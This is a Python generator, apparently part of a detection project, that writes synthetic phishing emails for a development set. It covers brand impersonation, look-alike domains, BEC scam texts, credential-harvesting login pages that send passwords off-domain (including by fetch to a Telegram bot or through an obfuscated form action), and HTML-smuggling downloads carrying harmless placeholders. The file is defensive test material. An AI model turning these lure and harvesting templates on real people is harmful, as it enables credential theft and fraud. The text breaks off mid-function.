#!/usr/bin/env python3
"""Synthetic phishing messages for exogate's detection development set (issue 17).

    generate.py --out DIR [--count 360] [--seed 17] [--tenant-domain contoso.com] [--tenant-name Contoso]

Writes DIR/NNNN-<technique>.eml and DIR/manifest.jsonl (one line per message: technique,
scenario, brand, sender style, landing URL, structure, encodings). Deterministic for a seed.

Every message is SYNTHETIC: written from templates by this file, modelled on the shapes that
public phishing reports describe (credential forms posting off-domain, HTML smuggling, QR lures,
brand and tenant impersonation, look-alike domains, link-text mismatch, password-protected
archives, calendar invites and attached messages). No sample of the held-out collection
rf-peixoto/phishing_pot, nor anything derived from it, was used. Landing pages are made-up host
names; "payloads" are harmless text. Messages vary along templates x brands x sender styles x
URL styles x structures x transfer encodings x charsets x line endings.
Needs `segno` (QR encoder, BSD-3-Clause) for the QR lures.
"""
import argparse
import base64
import datetime
import io
import json
import os
import random
import re
import string
import urllib.parse

import segno

from mime import Multipart, Part, encode_body, encoded_word, message, pdf, zip_archive

# ------------------------------------------------------------------------------------------
# Brands: display names that phishing borrows, the brand's real domains (what a look-alike
# imitates), colours for the HTML, the words of their real notifications.
BRANDS = {
    "microsoft": dict(name="Microsoft", displays=["Microsoft 365", "Microsoft Outlook", "Microsoft account team",
                                                  "Office 365 Admin", "OneDrive", "SharePoint Online", "Microsoft Teams",
                                                  "Micros\u043eft 365", "M\u200bicrosoft Security"],
                      domains=["microsoft.com", "microsoftonline.com", "office.com", "outlook.com", "sharepoint.com"],
                      color="#0078d4", real_link="https://account.microsoft.com/"),
    "docusign": dict(name="DocuSign", displays=["DocuSign", "DocuSign Electronic Signature", "Docusign via Docs",
                                                "DocuSign eSignature"],
                     domains=["docusign.com", "docusign.net"], color="#ffcc22",
                     real_link="https://www.docusign.com/"),
    "adobe": dict(name="Adobe", displays=["Adobe Acrobat Sign", "Adobe Document Cloud", "Adobe Sign"],
                  domains=["adobe.com", "adobesign.com"], color="#eb1000", real_link="https://www.adobe.com/"),
    "paypal": dict(name="PayPal", displays=["PayPal", "PayPal Service", "PayPal Resolution Center", "P\u0430yPal"],
                   domains=["paypal.com"], color="#003087", real_link="https://www.paypal.com/"),
    "dhl": dict(name="DHL", displays=["DHL Express", "DHL Parcel", "DHL Customer Service"],
                domains=["dhl.com"], color="#ffcc00", real_link="https://www.dhl.com/"),
    "fedex": dict(name="FedEx", displays=["FedEx Delivery Manager", "FedEx"], domains=["fedex.com"],
                  color="#4d148c", real_link="https://www.fedex.com/"),
    "amazon": dict(name="Amazon", displays=["Amazon", "Amazon.com", "Amazon Business", "Amazon Payments"],
                   domains=["amazon.com"], color="#ff9900", real_link="https://www.amazon.com/"),
    "apple": dict(name="Apple", displays=["Apple", "Apple Support", "iCloud", "App Store"],
                  domains=["apple.com", "icloud.com"], color="#000000", real_link="https://www.apple.com/"),
    "netflix": dict(name="Netflix", displays=["Netflix", "Netflix Billing"], domains=["netflix.com"],
                    color="#e50914", real_link="https://www.netflix.com/"),
    "wellsfargo": dict(name="Wells Fargo", displays=["Wells Fargo Online", "Wells Fargo Alerts"],
                       domains=["wellsfargo.com"], color="#d71e28", real_link="https://www.wellsfargo.com/"),
    "chase": dict(name="Chase", displays=["Chase Online", "Chase Alerts", "JPMorgan Chase"],
                  domains=["chase.com"], color="#117aca", real_link="https://www.chase.com/"),
    "amex": dict(name="American Express", displays=["American Express", "AmericanExpress Safekey"],
                 domains=["americanexpress.com"], color="#006fcf", real_link="https://www.americanexpress.com/"),
    "dropbox": dict(name="Dropbox", displays=["Dropbox", "Dropbox Transfer"], domains=["dropbox.com"],
                    color="#0061fe", real_link="https://www.dropbox.com/"),
    "zoom": dict(name="Zoom", displays=["Zoom", "Zoom Video Communications", "Zoom Meetings"],
                 domains=["zoom.us"], color="#2d8cff", real_link="https://zoom.us/"),
    "google": dict(name="Google", displays=["Google Workspace", "Google Drive", "Google Account"],
                   domains=["google.com"], color="#1a73e8", real_link="https://myaccount.google.com/"),
    "intuit": dict(name="Intuit QuickBooks", displays=["QuickBooks", "Intuit QuickBooks Payments"],
                   domains=["intuit.com", "quickbooks.com"], color="#2ca01c", real_link="https://quickbooks.intuit.com/"),
    "linkedin": dict(name="LinkedIn", displays=["LinkedIn", "LinkedIn Messages"], domains=["linkedin.com"],
                     color="#0a66c2", real_link="https://www.linkedin.com/"),
    "ups": dict(name="UPS", displays=["UPS My Choice", "UPS Quantum View"], domains=["ups.com"],
                color="#351c15", real_link="https://www.ups.com/"),
}

# Which brands fit which scenario.
SCENARIOS = {
    "password_expiry": ["microsoft", "google", "tenant"],
    "mailbox_quota": ["microsoft", "tenant"],
    "shared_document": ["microsoft", "dropbox", "google", "adobe", "docusign"],
    "voicemail": ["microsoft", "tenant"],
    "invoice": ["intuit", "paypal", "amazon", "adobe"],
    "delivery": ["dhl", "fedex", "ups", "amazon"],
    "account_locked": ["paypal", "apple", "netflix", "amazon", "chase", "wellsfargo", "amex", "linkedin"],
    "mfa_reenroll": ["microsoft", "google", "tenant"],
    "esign": ["docusign", "adobe"],
    "meeting": ["microsoft", "zoom", "tenant"],
    "payroll": ["tenant"],
    "bec": ["tenant"],
}

FIRST = ["James", "Mary", "Robert", "Patricia", "John", "Jennifer", "Michael", "Linda", "David", "Elizabeth",
         "Daniel", "Sarah", "Thomas", "Karen", "Anna", "Lukas", "Sophie", "Marco", "Chiara", "Pierre", "Camille",
         "Carlos", "Lucia", "Aisha", "Wei", "Priya", "Olga", "Noah", "Emma", "Mateo"]
LAST = ["Smith", "Johnson", "Williams", "Brown", "Jones", "Miller", "Davis", "Garcia", "Wilson", "Anderson",
        "Taylor", "Moore", "Martin", "Schmidt", "Müller", "Rossi", "Dubois", "Fernández", "Kowalski", "Chen",
        "Patel", "Novak", "Larsen", "Okafor"]
WORDS = ["secure", "verify", "account", "portal", "login", "auth", "review", "docs", "share", "file", "cloud",
         "online", "update", "service", "support", "access", "sign", "mail", "center", "notice", "web", "safe",
         "office", "id", "help", "track", "billing", "pay", "invoice", "delivery", "connect", "sso", "team"]
TLDS = ["com", "net", "org", "info", "online", "site", "xyz", "top", "click", "live", "shop", "app", "cloud",
        "co", "io", "us", "ru", "cn", "br", "in", "icu", "cfd", "sbs", "rest", "store", "today", "space"]
SMALL_BUSINESS = ["greenvalleydental", "rossiflorist", "autohaus-becker", "lakesidechurch", "mbcontractors",
                  "sunrisebakery", "pinecrestrealty", "harborviewmarina", "elitelimo-nj", "casadelpan",
                  "bluebirdpreschool", "techfix-repairs", "oakridgevet", "alpinehotel-tirol", "kingstonplumbing",
                  "villasolemare", "northstar-hvac", "agroverde", "summitphysio", "riverbendgolf"]
HOSTING = ["{r}.web.app", "{r}.firebaseapp.com", "{r}.pages.dev", "{r}.workers.dev", "pub-{h}.r2.dev",
           "{r}.blob.core.windows.net", "storage.googleapis.com", "{r}.netlify.app", "{r}.vercel.app",
           "ipfs.io", "{r}.glitch.me", "{r}.onrender.com", "{r}.azurewebsites.net", "sites.google.com",
           "{r}.s3.amazonaws.com", "{r}.myshopify.com", "{r}.weebly.com", "{r}.wixsite.com"]
FREEMAIL = ["gmail.com", "outlook.com", "hotmail.com", "yahoo.com", "aol.com", "proton.me", "gmx.com", "mail.com"]
MAILERS = ["PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)", "Microsoft Outlook 16.0",
           "Microsoft Office Outlook 12.0", "Foxmail 7.2", "Swift Mailer", "Sendinblue", None, None, None, None]

TECHNIQUES = [
    "link_body", "link_text_mismatch", "cred_form_body", "html_attachment_form", "html_smuggling",
    "html_redirect_attachment", "svg_attachment", "qr_inline", "qr_attached_image", "qr_pdf", "pdf_link",
    "zip_password", "ics_invite", "eml_attachment", "bec_text",
]


class Gen:
    def __init__(self, seed, tenant_domain, tenant_name, date):
        self.r = random.Random(seed)
        self.date = date
        self.td = tenant_domain
        self.tn = tenant_name
        self.tbase = tenant_domain.split(".")[0]

    # --- small helpers ----------------------------------------------------------------------
    def pick(self, seq):
        return self.r.choice(seq)

    def chance(self, p):
        return self.r.random() < p

    def rand_token(self, n=8, alphabet=string.ascii_lowercase + string.digits):
        return "".join(self.r.choice(alphabet) for _ in range(n))

    def person(self):
        return self.pick(FIRST), self.pick(LAST)

    def recipient(self):
        f, l = self.person()
        local = self.pick([f"{f}.{l}", f"{f[0]}{l}", f"{f}", f"{f}.{l[0]}"]).lower()
        local = local.encode("ascii", "ignore").decode()
        return f"{f} {l}", f"{local}@{self.td}"

    def doc_ip(self):
        return self.pick(["192.0.2", "198.51.100", "203.0.113"]) + f".{self.r.randrange(2, 254)}"

    # --- domains ----------------------------------------------------------------------------
    def lookalike(self, domain):
        """A look-alike of DOMAIN: homoglyph, typo, hyphenated extra word, other suffix, IDN."""
        base, _, tld = domain.partition(".")
        kind = self.pick(["digit", "typo_double", "typo_drop", "hyphen", "suffix", "idn", "rn", "subdomain"])
        if kind == "digit" and any(c in base for c in "oil"):
            i = self.pick([i for i, c in enumerate(base) if c in "oil"])
            base = base[:i] + {"o": "0", "i": "1", "l": "1"}[base[i]] + base[i + 1:]
            return f"{base}.{tld}"
        if kind == "typo_double":
            i = self.r.randrange(1, len(base))
            return f"{base[:i]}{base[i]}{base[i:]}.{tld}"
        if kind == "typo_drop" and len(base) > 4:
            i = self.r.randrange(1, len(base) - 1)
            return f"{base[:i]}{base[i + 1:]}.{tld}"
        if kind == "rn" and "m" in base:
            return base.replace("m", "rn", 1) + "." + tld
        if kind == "idn" and any(c in base for c in "aeopc"):
            i = self.pick([i for i, c in enumerate(base) if c in "aeopc"])
            u = base[:i] + {"a": "\u0430", "e": "\u0435", "o": "\u043e", "p": "\u0440", "c": "\u0441"}[base[i]] + base[i + 1:]
            return u.encode("idna").decode() + "." + tld
        if kind == "subdomain":
            return f"{base}.{tld}.{self.pick(WORDS)}-{self.pick(WORDS)}.{self.pick(TLDS)}"
        if kind == "suffix":
            return f"{base}.{self.pick([t for t in TLDS if t != tld])}"
        return f"{base}-{self.pick(WORDS)}.{self.pick(['com', 'net', 'online', 'support', 'co'])}"

    def random_domain(self):
        return f"{self.pick(WORDS)}{self.pick(['', '-'])}{self.pick(WORDS)}{self.r.randrange(0, 99) if self.chance(0.3) else ''}.{self.pick(TLDS)}"

    def landing(self, brand_key, recipient_addr):
        """A landing URL (style, url). The host never belongs to the brand or the tenant."""
        style = self.pick(["lookalike", "random", "hosting", "compromised", "ip", "userinfo", "redirect",
                           "hosting", "random", "lookalike"])
        brand_dom = self.td if brand_key == "tenant" else self.pick(BRANDS[brand_key]["domains"])
        path = self.pick(["/login", "/auth/signin", "/owa/auth.php", "/secure/verify", "/docs/view",
                          "/wp-content/plugins/.x/index.php", "/sharepoint/Doc.aspx", "/invoice/view.html",
                          "/account/restore", "/mfa/setup", "/", "/track?id=" + self.rand_token(10),
                          "/o365/", "/index.html", "/ap/signin"])
        if style == "lookalike":
            host = self.lookalike(brand_dom)
            if self.chance(0.4):
                host = self.pick(["login", "secure", "account", "portal", "www"]) + "." + host
        elif style == "random":
            host = self.random_domain()
        elif style == "hosting":
            host = self.pick(HOSTING).format(r=f"{self.pick(WORDS)}-{self.rand_token(5)}", h=self.rand_token(32, "0123456789abcdef"))
            if host == "ipfs.io":
                path = "/ipfs/bafybei" + self.rand_token(52) + "/" + self.pick(["index.html", "sso.html", ""])
            elif host == "storage.googleapis.com":
                path = f"/{self.pick(WORDS)}-{self.rand_token(6)}/index.html"
            elif host == "sites.google.com":
                path = f"/view/{self.pick(WORDS)}{self.rand_token(4)}/home"
            elif host.endswith("blob.core.windows.net"):
                path = "/$web/" + self.pick(["index.html", "auth.html", "o365.html"])
        elif style == "compromised":
            host = "www." + self.pick(SMALL_BUSINESS) + "." + self.pick(["com", "net", "de", "it", "com.br", "co.uk", "org"])
            path = self.pick(["/wp-admin/css/colors/", "/wp-includes/js/", "/images/.well/", "/cgi-bin/", "/old/"]) + \
                self.pick(["index.php", "login.html", "verify.php", "", "o/"])
        elif style == "ip":
            host = self.doc_ip() + self.pick(["", ":8080", ":8443"])
        elif style == "userinfo":
            host = f"{brand_dom}@{self.random_domain()}"
        else:  # redirect through a tracker-like host to the real landing
            inner = f"https://{self.random_domain()}{path}"
            host = self.pick(["click." + self.random_domain(), "l." + self.random_domain(), "t." + self.random_domain()])
            path = "/r?u=" + (base64.urlsafe_b64encode(inner.encode()).decode() if self.chance(0.5) else urllib.parse.quote(inner, safe=""))
        scheme = "http" if style == "ip" or self.chance(0.12) else "https"
        url = f"{scheme}://{host}{path}"
        if self.chance(0.45):  # the victim's address travels with the link: pre-filled login
            enc = self.pick(["plain", "b64", "q"])
            if enc == "plain":
                url += "#" + recipient_addr
            elif enc == "b64":
                url += "#" + base64.b64encode(recipient_addr.encode()).decode()
            else:
                url += ("&" if "?" in url else "?") + "email=" + urllib.parse.quote(recipient_addr)
        return style, url

    # --- senders ------------------------------------------------------------------------------
    def sender(self, brand_key, scenario):
        """(style, display, address, envelope_from, reply_to)"""
        brand = BRANDS.get(brand_key)
        tenant_like = brand_key == "tenant"
        if scenario == "bec":
            f, l = self.person()
            display = f"{f} {l}"
            style = self.pick(["lookalike_tenant", "freemail", "tenant_spoof", "lookalike_tenant"])
        else:
            display = (f"{self.tn} {self.pick(['IT Service Desk', 'IT Support', 'HR Department', 'Payroll', 'Helpdesk', 'Administrator', 'Mail Admin'])}"
                       if tenant_like else self.pick(brand["displays"]))
            style = self.pick(["lookalike_tenant", "tenant_spoof", "random", "compromised"] if tenant_like else
                              ["brand_display_random", "lookalike_brand", "compromised", "freemail",
                               "brand_display_random", "lookalike_brand"])
        if style == "lookalike_tenant":
            dom = self.lookalike(self.td)
        elif style == "tenant_spoof":
            dom = self.td
        elif style == "lookalike_brand":
            dom = self.lookalike(self.pick(brand["domains"]))
        elif style == "compromised":
            dom = self.pick(SMALL_BUSINESS) + "." + self.pick(["com", "net", "de", "it", "com.br", "co.uk", "org"])
        elif style == "freemail":
            dom = self.pick(FREEMAIL)
        else:
            dom = self.random_domain()
        local = self.pick(["no-reply", "noreply", "support", "security", "service", "info", "admin", "notification",
                           "alerts", "billing", "account-update", "helpdesk", "mailer", "hr", self.rand_token(7)])
        if scenario == "bec" and style != "freemail":
            local = display.lower().replace(" ", self.pick([".", "", "_"])).encode("ascii", "ignore").decode()
        if style == "freemail":
            local = (display.split()[0] + "." + self.rand_token(4)).lower().encode("ascii", "ignore").decode() if scenario == "bec" \
                else f"{(brand['name'] if brand else self.tn).lower().replace(' ', '')}.{local}{self.r.randrange(10, 999)}"
        addr = f"{local}@{dom}"
        env = addr
        if style in ("tenant_spoof", "brand_display_random") and self.chance(0.7):
            env = f"bounce-{self.rand_token(10)}@{self.random_domain()}"
        reply_to = None
        if self.chance(0.25 if scenario != "bec" else 0.7):
            reply_to = f"{self.rand_token(6)}.{self.pick(['support', 'desk', 'office', 'ceo'])}@{self.pick(FREEMAIL)}"
        return style, display, addr, env, reply_to

    # --- texts ----------------------------------------------------------------------------------
    def texts(self, scenario, brand_key, rcpt_name, rcpt_addr):
        """(subject, heading, paragraphs, call-to-action, plain signature)"""
        bn = self.tn if brand_key == "tenant" else BRANDS[brand_key]["name"]
        first = rcpt_name.split()[0]
        greet = self.pick([f"Dear {first},", f"Hello {rcpt_addr},", "Dear Customer,", "Hi,", f"Dear {rcpt_name},",
                           "Dear user,", f"Attention {rcpt_addr.split('@')[0]},"])
        n = self.r.randrange(1000, 99999)
        amount = f"{self.pick(['$', '€', '£'])}{self.r.randrange(49, 9800)}.{self.r.randrange(0, 99):02d}"
        doc = self.pick(["Q4_Bonus_Structure.xlsx", "Payment_Advice_{n}.pdf", "Signed_Contract_Amendment.docx",
                         "Salary_Revision_2026.pdf", "INV-{n}.pdf", "Remittance_{n}.pdf", "Project_Proposal.pptx",
                         "Confidential_Layoff_List.xlsx", "Purchase_Order_{n}.pdf", "Benefits_Enrollment.pdf"]).format(n=n)
        sender_name = " ".join(self.person())
        lang = self.pick(["en"] * 9 + ["de", "fr", "es"])
        if lang != "en" and scenario in ("account_locked", "shared_document", "password_expiry", "delivery"):
            return self._texts_foreign(lang, scenario, bn, greet, doc, n)
        t = {
            "password_expiry": (
                self.pick([f"Password expiry notice for {rcpt_addr}", "Your password expires today",
                           f"Action required: {bn} password expiration", "[ACTION REQUIRED] Password Expiration Notice",
                           f"Keep your current password - {rcpt_addr}"]),
                "Your password is about to expire",
                [greet, f"The password for your account {rcpt_addr} expires today. After expiry you will be signed out of "
                        f"all devices and incoming messages will be held.",
                 "To keep using your current password, confirm it within 24 hours using the secure link below."],
                self.pick(["Keep Current Password", "Keep my password", "Retain password", "Update Now"])),
            "mailbox_quota": (
                self.pick([f"Mailbox storage full: {self.r.randrange(97, 100)}% used", "Your mailbox is almost full",
                           f"{rcpt_addr} - Incoming messages suspended", "Quota warning: 49.8 GB of 50 GB used"]),
                "Your mailbox has reached its storage limit",
                [greet, f"Your mailbox {rcpt_addr} has reached its storage limit. {self.r.randrange(7, 49)} incoming "
                        "messages are pending delivery and will be deleted after 48 hours.",
                 "Increase your storage for free to receive pending messages."],
                self.pick(["Release pending messages", "Increase storage", "Upgrade mailbox", "Review messages"])),
            "shared_document": (
                self.pick([f"{sender_name} shared \"{doc}\" with you", f"{sender_name} has shared a file with you",
                           f"Document shared: {doc}", f"You have a new shared document from {self.tn}",
                           f"RE: {doc}"]),
                f"{sender_name} shared a file with you",
                [greet, f"{sender_name} has shared the document \"{doc}\" with you via {bn}.",
                 "This link only works for the direct recipients of this message. Sign in with your work account to view."],
                self.pick(["Open", "View Document", "Open in SharePoint", "Access File", "Review Document"])),
            "voicemail": (
                self.pick([f"New voicemail from +1 ({self.r.randrange(200, 999)}) ***-**{self.r.randrange(10, 99)}",
                           f"You received a voice message (0:{self.r.randrange(10, 59)})",
                           f"Voicemail Notification: {self.r.randrange(1, 4)} new message(s)", "Missed call - audio message attached"]),
                "You have a new voice message",
                [greet, f"You received a voice message on {self.date_str()} (duration 00:{self.r.randrange(10, 59)}).",
                 "Listen to the message with your work account credentials."],
                self.pick(["Play Voice Message", "Listen", "Play Audio", "Open Voicemail"])),
            "invoice": (
                self.pick([f"Invoice {n} from {self.pick(SMALL_BUSINESS).title()}", f"Your invoice #{n} is due",
                           f"Payment overdue - INV-{n}", f"New payment request of {amount}",
                           f"Remittance advice {n}"]),
                f"Invoice {n}",
                [greet, f"Please find invoice {n} for {amount} ready for review. Payment is due within 3 days to avoid a late fee.",
                 "View the invoice and payment details in the secure portal."],
                self.pick(["Review and pay", "View Invoice", "Open Invoice", "Pay now"])),
            "delivery": (
                self.pick([f"Your parcel {n} is on hold", f"{bn}: delivery attempt failed",
                           f"Action required: customs fee for shipment {n}", f"Shipment notification #{n}"]),
                "We could not deliver your parcel",
                [greet, f"Your shipment {n} could not be delivered because the customs fee of {amount} has not been paid.",
                 "Please confirm your address and pay the outstanding fee within 48 hours or the parcel will be returned."],
                self.pick(["Schedule delivery", "Pay customs fee", "Track shipment", "Confirm address"])),
            "account_locked": (
                self.pick([f"Your {bn} account has been limited", "Unusual sign-in activity", f"{bn}: account suspended",
                           "We noticed a new sign-in to your account", "Your payment method was declined",
                           f"Security alert: action required on your {bn} account"]),
                "Your account access has been limited",
                [greet, f"We detected unusual activity on your {bn} account from a new device "
                        f"({self.pick(['Moscow, RU', 'Lagos, NG', 'Jakarta, ID', 'São Paulo, BR'])}, {self.date_str()}).",
                 "For your protection we limited access. Verify your identity to restore full access; unverified accounts are closed after 24 hours."],
                self.pick(["Verify my account", "Restore access", "Secure account", "Review activity", "Update payment"])),
            "mfa_reenroll": (
                self.pick(["Multi-factor authentication re-enrollment required", "Action required: update your MFA settings",
                           f"{self.tn} security: re-register your authenticator", "2FA deactivation notice"]),
                "Re-register your authenticator",
                [greet, "Due to a security policy update, all employees must re-register their multi-factor authentication "
                        f"before {self.date_str(days=2)}.",
                 "Scan the code with your phone camera or use the button below. Accounts not updated will be locked."],
                self.pick(["Update MFA", "Re-enroll now", "Set up authenticator", "Verify device"])),
            "esign": (
                self.pick([f"Please DocuSign: {doc}", f"Completed: {doc}", f"{sender_name} sent you {doc} to review and sign",
                           f"Signature requested on \"{doc}\"", "Your document has been completed"]),
                f"{sender_name} sent you a document to review and sign",
                [greet, f"{sender_name} ({self.tn}) sent you \"{doc}\" to review and sign.",
                 "Please review the document at your earliest convenience. This envelope expires in 2 days."],
                self.pick(["REVIEW DOCUMENT", "View Completed Document", "Review and Sign"])),
            "meeting": (
                self.pick(["Mandatory: 2026 salary adjustment review", f"Invitation: {self.tn} all-hands (updated)",
                           "Meeting request: Q4 performance review", "Teams meeting: Compensation discussion"]),
                "You have been invited to a meeting",
                [greet, f"You have been invited to a meeting on {self.date_str(days=1)}. Please confirm your attendance.",
                 "Join with your corporate account."],
                self.pick(["Join meeting", "Accept", "View invitation"])),
            "payroll": (
                self.pick(["Updated payroll policy - acknowledgement required", f"{self.tn} HR: your salary increment letter",
                           "Direct deposit update required", "Annual benefits enrollment closes today",
                           "Employee handbook revision 2026: sign to acknowledge"]),
                "HR document awaiting your acknowledgement",
                [greet, f"Human Resources has published a document that requires your acknowledgement ({doc}).",
                 "Sign in with your work account to review and acknowledge before the end of the day."],
                self.pick(["Review document", "Acknowledge", "Access HR portal", "View letter"])),
        }
        if scenario == "bec":
            subj = self.pick(["Quick request", "Are you available?", "Urgent", "Confidential", "Payment today",
                              "Favor", "Request", "Need your help", "Wire transfer", "Re: vendor payment"])
            body = self.pick([
                f"Hi {first},\n\nAre you at your desk? I need you to handle a task for me discreetly. I'm in a meeting "
                "and can't talk on the phone. Reply to this email as soon as you get it.\n",
                f"{first},\n\nI need you to purchase {self.r.randrange(4, 12)} Apple gift cards of $200 each for a client "
                "appreciation event. Scratch the back, take pictures of the codes and send them to me here. I will "
                "reimburse you today.\n",
                f"Hello {first},\n\nWe have an outstanding invoice with a new supplier that must be settled today. "
                f"The amount is {amount}. Their bank details changed last week; I'll send the new account details. "
                "Keep this confidential until the acquisition is announced.\n",
                f"Hi {first},\n\nI changed banks and would like my salary paid into the new account from this month. "
                "Can you update it before the next payroll run? Let me know what you need.\n"])
            return subj, None, [body], None
        return t[scenario]

    def _texts_foreign(self, lang, scenario, bn, greet, doc, n):
        if lang == "de":
            return (self.pick([f"Ihr {bn}-Konto wurde eingeschränkt", "Wichtig: Bestätigen Sie Ihre Identität",
                               f"Dokument freigegeben: {doc}", f"Ihre Sendung {n} wartet auf Zustellung"]),
                    "Handlung erforderlich",
                    ["Sehr geehrte Kundin, sehr geehrter Kunde,",
                     f"wir haben ungewöhnliche Aktivitäten in Ihrem {bn}-Konto festgestellt. Bitte bestätigen Sie Ihre Daten "
                     "innerhalb von 24 Stunden, sonst wird der Zugang gesperrt."],
                    self.pick(["Jetzt bestätigen", "Konto überprüfen", "Dokument öffnen"]))
        if lang == "fr":
            return (self.pick([f"Votre compte {bn} a été suspendu", "Action requise : vérifiez votre identité",
                               f"Document partagé : {doc}", f"Votre colis {n} est en attente"]),
                    "Action requise",
                    ["Bonjour,", f"Nous avons détecté une activité inhabituelle sur votre compte {bn}. Veuillez confirmer "
                     "vos informations sous 24 heures afin d'éviter la suspension de votre accès."],
                    self.pick(["Vérifier maintenant", "Confirmer", "Ouvrir le document"]))
        return (self.pick([f"Su cuenta de {bn} ha sido limitada", "Acción requerida: verifique su identidad",
                           f"Documento compartido: {doc}", f"Su paquete {n} está retenido"]),
                "Acción requerida",
                ["Estimado cliente,", f"Hemos detectado actividad inusual en su cuenta de {bn}. Confirme sus datos en "
                 "un plazo de 24 horas para evitar la suspensión del acceso."],
                self.pick(["Verificar ahora", "Confirmar", "Abrir documento"]))

    def new_date(self):
        """A Date within the two days before --date: fixed for reproducibility. (Scanners that
        score old dates, like rspamd's DATE_IN_PAST, see these as old once --date is past.)"""
        return self.date - datetime.timedelta(minutes=self.r.randrange(0, 60 * 48))

    def date_str(self, days=0):
        d = self.base_date + datetime.timedelta(days=days)
        return d.strftime("%B %d, %Y")

    # --- HTML pieces ---------------------------------------------------------------------------
    def html_email(self, brand_key, heading, paras, cta, href, visible_url=None, extra_html="", rcpt_addr="",
                   link_html=None):
        color = BRANDS[brand_key]["color"] if brand_key in BRANDS else "#0078d4"
        bn = self.tn if brand_key == "tenant" else BRANDS[brand_key]["name"]
        ptags = "".join(f"<p style=\"margin:0 0 14px 0\">{p}</p>" for p in paras)
        if link_html is not None:
            link = link_html
        elif visible_url:  # the link's visible text is itself a URL on another (trusted-looking) host
            link = f'<a href="{href}" style="color:{color}">{visible_url}</a>'
        else:
            link = (f'<table role="presentation" cellpadding="0" cellspacing="0"><tr><td style="background:{color};'
                    f'border-radius:2px;padding:10px 24px"><a href="{href}" style="color:#ffffff;text-decoration:none;'
                    f'font-weight:600">{cta}</a></td></tr></table>')
        filler = ""
        if self.chance(0.25):  # invisible padding that real lures use to dilute text classifiers
            filler = ('<div style="display:none;font-size:0;max-height:0;overflow:hidden">'
                      + " ".join(self.pick(["meeting", "agenda", "thanks", "regards", "notes", "lunch", "weekend",
                                            "project", "update", "schedule"]) for _ in range(self.r.randrange(20, 80)))
                      + "</div>")
        real = BRANDS[brand_key]["real_link"] if brand_key in BRANDS else f"https://www.{self.td}/"
        footer = (f'<p style="font-size:11px;color:#888">This message was sent to {rcpt_addr}. '
                  f'&copy; 2026 {bn}. <a href="{real}" style="color:#888">Privacy Statement</a> | '
                  f'<a href="{real}" style="color:#888">Help</a></p>')
        return (f"<!DOCTYPE html><html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">"
                f"<title>{bn}</title></head><body style=\"font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222\">"
                f"{filler}<div style=\"max-width:600px;margin:0 auto\"><div style=\"background:{color};color:#fff;"
                f"padding:12px 18px;font-size:18px\">{bn}</div><div style=\"padding:18px\"><h2 style=\"font-weight:400\">"
                f"{heading}</h2>{ptags}{link}{extra_html}<br>{footer}</div></div></body></html>")

    def login_page(self, brand_key, rcpt_addr, action_style, wrap=True):
        """An HTML sign-in page whose form (or script) sends the password off-domain."""
        bn = self.tn if brand_key == "tenant" else BRANDS[brand_key]["name"]
        color = BRANDS[brand_key]["color"] if brand_key in BRANDS else "#0078d4"
        post_host = self.random_domain()
        endpoint = f"https://{post_host}/{self.pick(['next.php', 'post.php', 'auth/login.php', 'api/v1/session', 'send.php', 'xx.php'])}"
        form_open = f'<form method="POST" action="{endpoint}" id="f">'
        script = ""
        if action_style == "js_action":
            enc = base64.b64encode(endpoint.encode()).decode()
            form_open = '<form method="POST" id="f">'
            script = f"<script>document.getElementById('f').action=atob('{enc}');</script>"
        elif action_style == "telegram":
            token = f"{self.r.randrange(10**9, 10**10)}:AA{self.rand_token(33, string.ascii_letters + string.digits + '_-')}"
            form_open = '<form id="f" onsubmit="return s(event)">'
            script = ("<script>function s(e){e.preventDefault();var u=document.getElementById('u').value,"
                      "p=document.getElementById('p').value;"
                      f"fetch('https://api.telegram.org/bot{token}/sendMessage?chat_id={self.r.randrange(10**8, 10**9)}"
                      "&text='+encodeURIComponent(u+' | '+p)).then(function(){"
                      f"window.location.replace('{BRANDS[brand_key]['real_link'] if brand_key in BRANDS else 'https://www.office.com/'}');"
                      "});return false;}</script>")
        elif action_style == "ajax":
            form_open = '<form id="f" onsubmit="return s(event)">'
            script = ("<script>function s(e){e.preventDefault();var x=new XMLHttpRequest();"
                      f"x.open('POST','{endpoint}',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');"
                      "x.send('email='+encodeURIComponent(document.getElementById('u').value)+'&pass='+"
                      "encodeURIComponent(document.getElementById('p').value));"
                      "document.getElementById('err').style.display='block';return false;}</script>")
        page = (f"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Sign in to your account</title>"
                f"<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\"></head>"
                f"<body style=\"font-family:Segoe UI,Arial;background:#f2f2f2\"><div style=\"width:360px;margin:80px auto;"
                f"background:#fff;padding:36px\"><div style=\"font-size:20px;color:{color};font-weight:600\">{bn}</div>"
                f"<h3>Sign in</h3><p>Because you are accessing sensitive info, you need to verify your password.</p>"
                f"{form_open}<input type=\"email\" id=\"u\" name=\"login\" value=\"{rcpt_addr}\" style=\"width:100%\"><br><br>"
                f"<input type=\"password\" id=\"p\" name=\"passwd\" placeholder=\"Password\" style=\"width:100%\"><br>"
                f"<div id=\"err\" style=\"display:none;color:red\">Your account or password is incorrect.</div><br>"
                f"<input type=\"hidden\" name=\"ref\" value=\"{self.rand_token(16)}\">"
                f"<button type=\"submit\" style=\"background:{color};color:#fff;border:0;padding:8px 32px\">Sign in</button>"
                f"</form></div>{script}</body></html>")
        if wrap and self.chance(0.3):  # the whole page delivered through document.write(unescape(...))
            esc = "".join(f"%{b:02X}" for b in page.encode())
            page = f"<html><body><script>document.write(unescape('{esc}'));</script></body></html>"
        return page, endpoint

    def smuggling_page(self, rcpt_addr):
        """HTML smuggling: a payload built in the browser from base64 and saved as a download."""
        name = self.pick(["Invoice_{n}.zip", "Remittance_{n}.iso", "Scan_{n}.img", "Statement_{n}.zip",
                          "Document_{n}.vhd", "Payroll_{n}.zip"]).format(n=self.r.randrange(1000, 9999))
        inner = zip_archive([(self.pick(["Invoice.js", "Document.lnk", "README.hta", "setup.vbs"]),
                              b"WScript.Echo(\"exogate corpus benchmark: harmless placeholder\");\r\n")])
        b64 = base64.b64encode(inner).decode()
        style = self.pick(["blob", "blob_reversed", "datauri", "eval", "charcodes"])
        if style == "blob":
            js = (f"var d='{b64}';var b=atob(d);var a=new Uint8Array(b.length);for(var i=0;i<b.length;i++){{a[i]=b.charCodeAt(i);}}"
                  "var f=new Blob([a],{type:'application/octet-stream'});var l=document.createElement('a');"
